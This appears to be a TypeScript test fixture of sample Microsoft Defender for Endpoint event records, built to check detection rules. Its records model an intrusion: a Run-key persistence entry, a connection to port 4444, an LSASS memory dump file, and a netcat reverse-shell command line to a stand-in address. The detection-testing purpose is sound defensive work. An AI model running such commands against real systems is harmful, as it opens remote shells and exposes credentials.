/** Device tables of Microsoft Defender for Endpoint: streamed, as rows of a workspace, as an export. */
import { COMMAND, fetched, IMAGE, type Layout, PARENT, SID, stored, TIME } from "./facts.ts";

const device = { DeviceId: "d1".repeat(20), DeviceName: "ws07.corp.example", ReportId: 7 };
const by = (path: string) => ({
  ...{
    InitiatingProcessFolderPath: path,
    InitiatingProcessFileName: path.split(/[\\/]/).at(-1),
    InitiatingProcessId: 4596,
  },
  ...{
    InitiatingProcessCommandLine: "x",
    InitiatingProcessAccountName: "mallory",
    InitiatingProcessAccountDomain: "corp",
  },
});
const streamed = (table: string, properties: object) => ({
  ...{ time: TIME, tenantId: "t", operationName: "Publish", category: `AdvancedHunting-${table}` },
  properties: { Timestamp: TIME, ...device, ...properties },
});
const row = (table: string, columns: object) => ({
  TenantId: "t",
  TimeGenerated: TIME,
  Timestamp: TIME,
  ...device,
  ...columns,
  Type: table,
});
const here = { host: "ws07", user: "mallory" };

export const defender: readonly Layout[] = [
  stored(
    "Defender: process, streamed",
    [
      streamed("DeviceProcessEvents", {
        ...{ ActionType: "ProcessCreated", FileName: "certutil.exe", FolderPath: IMAGE, ProcessId: 6700 },
        ...{
          ProcessCommandLine: COMMAND,
          ProcessIntegrityLevel: "High",
          AccountName: "mallory",
          AccountDomain: "corp",
        },
        ...{ AccountSid: SID, SHA256: "aa".repeat(32), ...by(PARENT) },
      }),
    ],
    fetched,
  ),
  stored(
    "Defender: registry, row of a workspace",
    [
      row("DeviceRegistryEvents", {
        ...{ ActionType: "RegistryValueSet", RegistryValueName: "upd", RegistryValueData: "C:\\Users\\Public\\a.exe" },
        ...{
          RegistryKey: `HKEY_USERS\\${SID}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run`,
          RegistryValueType: "String",
        },
        ...by("C:\\Windows\\System32\\reg.exe"),
      }),
    ],
    { ...here, rules: ["run-key"], image: "C:\\Windows\\System32\\reg.exe" },
  ),
  stored(
    "Defender: connection, row of an export",
    [
      `${TIME},${device.DeviceId},${device.DeviceName},ConnectionSuccess,203.0.113.9,4444,,10.0.1.7,50000,Tcp,${IMAGE},certutil.exe,mallory,corp`,
    ],
    {
      ...{ ...here, rules: ["connected"], image: IMAGE },
      header:
        "Timestamp,DeviceId,DeviceName,ActionType,RemoteIP,RemotePort,RemoteUrl,LocalIP,LocalPort,Protocol,InitiatingProcessFolderPath,InitiatingProcessFileName,InitiatingProcessAccountName,InitiatingProcessAccountDomain",
    },
  ),
  stored(
    "Defender: file",
    [
      streamed("DeviceFileEvents", {
        ...{ ActionType: "FileCreated", FileName: "lsass.dmp", FolderPath: "C:\\Users\\Public\\lsass.dmp" },
        ...by("C:\\Windows\\System32\\rundll32.exe"),
      }),
    ],
    { ...here, rules: ["dump-file"], image: "C:\\Windows\\System32\\rundll32.exe" },
  ),
  stored(
    "Defender: library",
    [
      row("DeviceImageLoadEvents", {
        ...{
          ActionType: "ImageLoaded",
          FileName: "comsvcs.dll",
          FolderPath: "C:\\Users\\Public\\comsvcs.dll",
          ...by(IMAGE),
        },
      }),
    ],
    { ...here, rules: ["loaded"], image: IMAGE },
  ),
  stored(
    "Defender: process of Linux",
    [
      streamed("DeviceProcessEvents", {
        ...{ ActionType: "ProcessCreated", FileName: "nc", FolderPath: "/usr/bin/nc", ProcessId: 9 },
        ...{ ProcessCommandLine: "nc -e /bin/sh 203.0.113.9 4444", AccountName: "mallory", ...by("/usr/bin/bash") },
      }),
    ],
    { ...here, rules: ["netcat"], image: "/usr/bin/nc" },
  ),
];
